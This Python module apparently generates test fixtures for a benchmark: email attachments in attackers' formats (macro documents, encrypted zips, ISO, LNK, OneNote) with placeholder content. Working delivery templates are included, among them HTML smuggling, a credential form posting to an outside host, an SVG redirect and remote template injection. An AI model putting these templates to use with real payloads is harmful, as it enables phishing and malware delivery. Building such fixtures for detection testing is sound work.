"""Attached files as intruders send them: right in form, harmless in content, in two sets."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import msgspec

from benchmarks.conversation.lures import Set, password
from benchmarks.conversation.payloads import LATIN, host, mixed

HARMLESS = b"HARMLESS TEST PLACEHOLDER "
OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")
ONENOTE_MAGIC = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
ONENOTE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
LNK_MAGIC = bytes.fromhex("4c0000000114020000000000c000000000000046")
SECTOR = 512
FREE, END, FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


class Attached(msgspec.Struct, frozen=True, kw_only=True):
    """One file. password: with which the archive opens, empty if it is open."""

    family: str
    name: str
    kind: str
    content: bytes
    password: str = ""


def attachment(rng: random.Random, which: Set, *, only: tuple[str, ...] = ()) -> Attached:
    """A file of the set; `only` narrows the families."""
    table = FILES[which]
    family = rng.choice([name for name in table if not only or name in only])
    extension, kind, make = table[family]
    secret = password(rng) if "password" in family else ""
    content = make(rng, secret)
    return Attached(
        family=family,
        name=f"{_stem(rng, which)}.{extension}",
        kind=kind if rng.random() < 0.7 else "application/octet-stream",
        content=content,
        password=secret,
    )


def _stem(rng: random.Random, which: Set) -> str:
    number = rng.randrange(1000, 999999)
    if which == "A":
        return rng.choice(
            (f"Mes_G{number}", f"Invoice_{number}", f"form {number}", f"Doc{number}", mixed(rng, 9))
        )
    words = f"{rng.choice(LATIN)}_{rng.choice(LATIN)}"
    return rng.choice((f"PO-{number}", f"scan_{number}", words, f"Minutes {number}", f"{number}"))


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file with those streams in its root, each filled up to leave the mini stream."""
    sectors, entries, fat = [], [], []
    for name, content in streams.items():
        size = max(4096, -(-len(content) // SECTOR) * SECTOR)
        first, count = len(sectors), size // SECTOR
        padded = content.ljust(size, b"\0")
        sectors += [padded[i : i + SECTOR] for i in range(0, size, SECTOR)]
        fat += [*range(first + 1, first + count), END]
        entries.append((name, first, size))
    records = [_entry("Root Entry", 5, END, 0, child=1 if entries else FREE)]
    for position, (name, first, size) in enumerate(entries, 1):
        right = position + 1 if position < len(entries) else FREE
        records.append(_entry(name, 2, first, size, right=right))
    while len(records) % 4:
        records.append(b"\0" * 64 + struct.pack("<III", FREE, FREE, FREE) + b"\0" * 52)
    directory = len(sectors)
    table = b"".join(records)
    sectors += [table[i : i + SECTOR] for i in range(0, len(table), SECTOR)]
    fat += [*range(directory + 1, len(sectors)), END]
    fat.append(FAT)
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(SECTOR, b"\xff")
    header = OLE_MAGIC + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, directory, 0, 4096, END, 0, END, 0)
    header += struct.pack("<I", len(sectors)) + b"\xff" * 432
    return header + b"".join(sectors) + fat_sector


def _entry(
    name: str, kind: int, first: int, size: int, *, right: int = FREE, child: int = FREE
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    raw = encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
    raw += struct.pack("<III", FREE, right, child) + b"\0" * 36
    return raw + struct.pack("<IQ", first, size)


def zipped(files: dict[str, bytes]) -> bytes:
    """An open zip archive; its time stamps are fixed, so that equal input is equal output."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2022, 1, 1, 0, 0, 0)), content)
    return out.getvalue()


def encrypted_zip(name: str, content: bytes, secret: str, rng: random.Random) -> bytes:
    """A zip archive of one file, encrypted the traditional way (PKWARE APPNOTE 6.1)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    crc = zlib.crc32(content)
    body = _pkware(rng.randbytes(11) + bytes([crc >> 24]) + packed, secret.encode())
    fixed = struct.pack(
        "<HHHHHIIIHH", 20, 1, 8, 0, 0x5421, crc, len(body), len(content), len(name), 0
    )
    local = b"PK\3\4" + fixed + name.encode() + body
    central = b"PK\1\2" + struct.pack("<H", 20) + fixed + struct.pack("<HHHII", 0, 0, 0, 0, 0)
    central += name.encode()
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _pkware(plain: bytes, secret: bytes) -> bytes:
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = zlib.crc32(bytes([byte]), keys[0] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = zlib.crc32(bytes([keys[1] >> 24]), keys[2] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    for byte in secret:
        update(byte)
    out = bytearray()
    for byte in plain:
        low = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((low * (low ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def _doc(rng: random.Random, _: str) -> bytes:
    return ole(
        {
            "WordDocument": b"\xec\xa5" + HARMLESS * 20,
            "VBA": b"Attribute VB_Name\0" + rng.randbytes(64),
        }
    )


def _xls(rng: random.Random, _: str) -> bytes:
    book = b"\x09\x08\x10\0\0\6\5\0" + HARMLESS * 20
    return ole({"Workbook": book, "_VBA_PROJECT_CUR": rng.randbytes(64)})


def _office(
    folder: str, part: str, *, macro: bool, template: bool = False
) -> Callable[[random.Random, str], bytes]:
    def make(rng: random.Random, _: str) -> bytes:
        files = {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            f"{folder}/{part}": b"<document>"
            + HARMLESS
            + rng.randbytes(8).hex().encode()
            + b"</document>",
        }
        if macro:
            files[f"{folder}/vbaProject.bin"] = ole({"dir": HARMLESS + rng.randbytes(16)})
        if template:
            target = f"http://{host(rng, 'B')}/{mixed(rng, 6)}.dotm"
            files[f"{folder}/_rels/settings.xml.rels"] = (
                '<Relationships><Relationship Id="rId1" TargetMode="External" Type="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                f'Target="{target}"/></Relationships>'
            ).encode()
        return zipped(files)

    return make


def _zip_password(
    inner: str, make: Callable[[random.Random, str], bytes]
) -> Callable[[random.Random, str], bytes]:
    def build(rng: random.Random, secret: str) -> bytes:
        return encrypted_zip(
            f"{rng.choice(LATIN)}{rng.randrange(999)}.{inner}", make(rng, ""), secret, rng
        )

    return build


def _zip_of(
    inner: str, make: Callable[[random.Random, str], bytes]
) -> Callable[[random.Random, str], bytes]:
    def build(rng: random.Random, _: str) -> bytes:
        return zipped({f"{rng.choice(LATIN)}_{rng.randrange(9999)}.{inner}": make(rng, "")})

    return build


def _onenote(rng: random.Random, _: str) -> bytes:
    inner = b'<html><script language="vbscript">' + HARMLESS + b"</script></html>"
    blob = ONENOTE_FILE + struct.pack("<Q", len(inner)) + b"\0" * 12 + inner
    return ONENOTE_MAGIC + rng.randbytes(16) + b"\0" * 1024 + blob + b"\0" * 512


def _smuggling(rng: random.Random, _: str) -> bytes:
    data = mixed(rng, 2400)
    return (
        "<html><body><p>The file is loading</p><script>"
        f'var d=atob("{data}");var b=new Blob([d],{{type:"application/zip"}});'
        'var a=document.createElement("a");a.href=URL.createObjectURL(b);'
        f'a.download="{rng.choice(LATIN)}.zip";a.click();</script></body></html>'
    ).encode()


def _form_page(rng: random.Random, _: str) -> bytes:
    return (
        f'<html><body><form method="post" action="https://{host(rng, "B")}/{mixed(rng, 5)}.php">'
        'Sign in<input name="user"><input type="password" name="pass"><input type="submit">'
        "</form></body></html>"
    ).encode()


def _svg(rng: random.Random, _: str) -> bytes:
    data = mixed(rng, 800)
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>location=atob("{data}")</script></svg>'.encode()


def _lnk(rng: random.Random, _: str) -> bytes:
    return (
        LNK_MAGIC
        + b"\x9b\0\x08\0"
        + b"\0" * 52
        + "powershell HARMLESS".encode("utf-16-le")
        + rng.randbytes(8)
    )


def _script(rng: random.Random, _: str) -> bytes:
    return b"// " + HARMLESS + b"\nvar " + mixed(rng, 12).encode() + b' = "harmless";\n' * 40


def _iso(rng: random.Random, _: str) -> bytes:
    descriptor = b"\1CD001\1\0" + b" " * 32 + b"DOCS".ljust(32)
    image = bytearray(
        b"\0" * 0x8000 + descriptor.ljust(2048, b"\0") + b"\xffCD001\1".ljust(2048, b"\0")
    )
    return bytes(image) + b"DOCUMENT.LNK;1" + _lnk(rng, "") + b"\0" * 2048


def _vhd(rng: random.Random, _: str) -> bytes:
    return b"\0" * 4096 + HARMLESS + rng.randbytes(64) + b"\0" * 512 + b"conectix".ljust(512, b"\0")


def _pdf(rng: random.Random, _: str) -> bytes:
    link = f"https://{host(rng, 'A')}/{mixed(rng, 8)}.zip"
    return (
        "%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
        "endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[<</Type/Annot/Subtype/Link"
        f"/Rect[100 100 300 200]/A<</S/URI/URI({link})>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    ).encode()


def _program(rng: random.Random, _: str) -> bytes:
    return b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + rng.randbytes(120) + HARMLESS * 40


def _rtf(rng: random.Random, _: str) -> bytes:
    return (
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata " + rng.randbytes(200).hex().encode() + b"}}}"
    )


def _seven(rng: random.Random, _: str) -> bytes:
    return b"7z\xbc\xaf\x27\x1c\0\4" + rng.randbytes(900)


def _rar(rng: random.Random, _: str) -> bytes:
    return b"Rar!\x1a\x07\x01\0" + rng.randbytes(900)


ZIP = "application/zip"
FILES: dict[Set, dict[str, tuple[str, str, Callable[[random.Random, str], bytes]]]] = {
    "A": {
        "doc": ("doc", "application/msword", _doc),
        "xls": ("xls", "application/vnd.ms-excel", _xls),
        "docm": (
            "docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            _office("word", "document.xml", macro=True),
        ),
        "zip-password-doc": ("zip", ZIP, _zip_password("doc", _doc)),
        "one": ("one", "application/onenote", _onenote),
        "html-smuggling": ("html", "text/html", _smuggling),
        "zip-js": ("zip", ZIP, _zip_of("js", _script)),
        "pdf-link": ("pdf", "application/pdf", _pdf),
    },
    "B": {
        "xlsm": (
            "xlsm",
            "application/vnd.ms-excel.sheet.macroEnabled.12",
            _office("xl", "workbook.xml", macro=True),
        ),
        "docx-template": (
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            _office("word", "document.xml", macro=False, template=True),
        ),
        "zip-password-iso": ("zip", ZIP, _zip_password("iso", _iso)),
        "zip-password-lnk": ("zip", ZIP, _zip_password("lnk", _lnk)),
        "iso": ("iso", "application/x-iso9660-image", _iso),
        "img": ("img", "application/octet-stream", _iso),
        "vhd": ("vhd", "application/octet-stream", _vhd),
        "zip-lnk": ("zip", ZIP, _zip_of("lnk", _lnk)),
        "zip-wsf": ("zip", ZIP, _zip_of("wsf", _script)),
        "xll": ("xll", "application/octet-stream", _program),
        "js": ("js", "application/javascript", _script),
        "svg": ("svg", "image/svg+xml", _svg),
        "html-form": ("htm", "text/html", _form_page),
        "rtf": ("rtf", "application/rtf", _rtf),
        "7z": ("7z", "application/x-7z-compressed", _seven),
        "rar": ("rar", "application/vnd.rar", _rar),
    },
}  # fmt: skip
